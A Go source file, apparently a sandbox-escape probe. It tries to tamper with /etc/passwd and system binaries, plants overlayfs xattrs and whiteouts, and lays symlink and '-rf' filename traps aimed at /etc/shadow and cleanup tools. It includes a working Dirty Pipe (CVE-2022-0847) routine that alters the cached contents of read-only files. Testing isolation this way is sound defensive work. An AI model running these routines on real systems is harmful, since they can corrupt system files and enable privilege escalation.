package main

import (
	"os"
	"path/filepath"
	"strings"

	"golang.org/x/sys/unix"
)

// files attacks the template that lies under the root.
func files(r *report, _ []string) {
	for _, path := range []string{"/etc/passwd", "/usr/bin/dash", "/usr/bin/python3.11", "/usr/lib/os-release", "/etc/ld.so.cache"} {
		r.try("write "+path, rewrite(path))
		r.try("remove "+path, os.Remove(path))
		r.try("rename "+path, os.Rename(path, path+".old"))
		r.try("chmod "+path, os.Chmod(path, 0o4777))
		r.try("link "+path, os.Link(path, path+".link"))
		r.try("dirty pipe "+path, dirtyPipe(path))
		r.try("immutable "+path, setFlags(path))
	}
	for _, dir := range []string{"/", "/etc", "/usr/bin", "/usr/lib", "/root", "/var/lib", "/app"} {
		r.try("create in "+dir, os.WriteFile(dir+"/probe", nil, 0o666))
		r.try("remove folder "+dir, os.Rename(dir, "/tmp/x"))
	}
	for _, dir := range []string{"/var/tmp", "/tmp", "/dev/shm"} {
		r.overlay(dir)
	}
}

// overlay plants what has a meaning to overlayfs.
func (r *report) overlay(dir string) {
	path := filepath.Join(dir, "planted")
	if err := os.Mkdir(path, 0o777); err != nil {
		r.fact("plant in "+dir, outcome(err))
		return
	}
	for _, name := range []string{"trusted.overlay.opaque", "trusted.overlay.redirect", "trusted.overlay.metacopy", "security.ima", "security.capability"} {
		r.try(name+" in "+dir, unix.Setxattr(path, name, []byte("/etc"), 0))
	}
	err := unix.Mknod(filepath.Join(dir, "whiteout"), unix.S_IFCHR, 0)
	if dir == "/var/tmp" { // overlayfs
		r.try("whiteout in "+dir, err)
	} else { // anyone may make one elsewhere, where it means nothing
		r.fact("whiteout in "+dir, outcome(err))
	}
}

// rewrite writes to a file and leaves it as it was.
func rewrite(path string) error {
	f, err := os.OpenFile(path, os.O_RDWR, 0)
	if err != nil {
		return err
	}
	defer f.Close()
	b := make([]byte, 1)
	if _, err := f.ReadAt(b, 0); err != nil {
		return err
	}
	_, err = f.WriteAt(b, 0)
	return err
}

// dirtyPipe writes through a pipe into the page cache of a file that it may only
// read (CVE-2022-0847).
func dirtyPipe(path string) error {
	f, err := os.Open(path)
	if err != nil {
		return err
	}
	defer f.Close()
	var before, after [8]byte
	if _, err := f.ReadAt(before[:], 0); err != nil {
		return err
	}
	var p [2]int
	if err := unix.Pipe2(p[:], unix.O_CLOEXEC); err != nil {
		return err
	}
	defer unix.Close(p[0])
	defer unix.Close(p[1])
	size, err := unix.FcntlInt(uintptr(p[1]), unix.F_GETPIPE_SZ, 0)
	if err != nil {
		return err
	}
	full := make([]byte, size)
	for _, f := range []func(int, []byte) (int, error){unix.Write, unix.Read} { // every buffer of the ring was mergeable once
		fd := p[1]
		if full[0] == 1 {
			fd = p[0]
		}
		if _, err := f(fd, full); err != nil {
			return err
		}
		full[0] = 1
	}
	var offset int64
	if _, err := unix.Splice(int(f.Fd()), &offset, p[1], nil, 1, 0); err != nil {
		return err
	}
	if _, err := unix.Write(p[1], []byte{^before[1]}); err != nil {
		return err
	}
	if _, err := f.ReadAt(after[:], 0); err != nil {
		return err
	}
	if before == after {
		return unix.EPERM
	}
	return nil
}

func setFlags(path string) error {
	f, err := os.Open(path)
	if err != nil {
		return err
	}
	defer f.Close()
	const immutable = 0x10
	return unix.IoctlSetPointerInt(int(f.Fd()), unix.FS_IOC_SETFLAGS, immutable)
}

// image attacks a folder that sandboxes share read-only.
func image(r *report, args []string) {
	dir := args[0]
	file := filepath.Join(dir, "file")
	r.try("create", os.WriteFile(filepath.Join(dir, "new"), []byte("x"), 0o666))
	r.try("make a folder", os.Mkdir(filepath.Join(dir, "folder"), 0o777))
	r.try("write", rewrite(file))
	r.try("truncate", os.Truncate(file, 3))
	r.try("chmod", os.Chmod(file, 0o666))
	r.try("touch", unix.UtimesNanoAt(unix.AT_FDCWD, file, []unix.Timespec{{Sec: 1}, {Sec: 1}}, 0))
	r.try("setxattr", unix.Setxattr(file, "user.x", []byte("x"), 0))
	r.try("map", mapShared(file))
	r.try("link inside", os.Link(file, filepath.Join(dir, "link")))
	r.try("dirty pipe", dirtyPipe(file))
	for _, out := range []string{"/tmp/out", "/var/tmp/out", "/dev/shm/out"} {
		r.try("link to "+filepath.Dir(out), os.Link(file, out))
		r.try("rename to "+filepath.Dir(out), os.Rename(file, out))
	}
	r.try("remove", os.Remove(file))
}

func mapShared(path string) error {
	f, err := os.OpenFile(path, os.O_RDWR, 0)
	if err != nil {
		return err
	}
	defer f.Close()
	m, err := unix.Mmap(int(f.Fd()), 0, 1, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
	if err != nil {
		return err
	}
	return unix.Munmap(m)
}

// read tells what files hold, and whether their inode is that of another path.
func read(r *report, args []string) {
	for _, path := range args {
		b, err := os.ReadFile(path)
		if err != nil {
			r.fact(path, outcome(err))
			continue
		}
		r.fact(path, strings.TrimSpace(string(b[:min(len(b), 200)])))
	}
}

// litter leaves behind what a careless remover would follow, hang on or fail at.
func litter(r *report, args []string) {
	dir, canary := args[0], args[1]
	bad := func(err error) {
		if err != nil {
			fatal(err)
		}
	}
	bad(os.Chdir(dir))
	for i, to := range []string{canary, "../../../../../../../.." + canary, "/etc/shadow", ".", "loop"} {
		bad(os.Symlink(to, "link"+string(rune('0'+i))))
	}
	bad(unix.Mkfifo("fifo", 0o600))
	bad(unix.Mknod("socket", unix.S_IFSOCK|0o600, 0))
	name := strings.Repeat("n", 255)
	bad(os.Mkdir(name, 0o700))
	bad(os.WriteFile(name+"/-rf", nil, 0o400))
	bad(os.WriteFile("new\nline", nil, 0o000))
	for i := range 2000 {
		bad(os.WriteFile("many"+string(rune('a'+i%26))+strings.Repeat("x", i/26), nil, 0o600))
	}
	bad(os.Mkdir("closed", 0o700))
	bad(os.WriteFile("closed/file", nil, 0o000))
	bad(os.Chmod("closed", 0))
	for range 300 { // longer than PATH_MAX as one path
		bad(os.Mkdir("deep-deep-deep-deep", 0o700))
		bad(os.Symlink(canary, "deep-deep-deep-deep/canary"))
		bad(os.Chdir("deep-deep-deep-deep"))
	}
	r.fact("littered", dir)
}
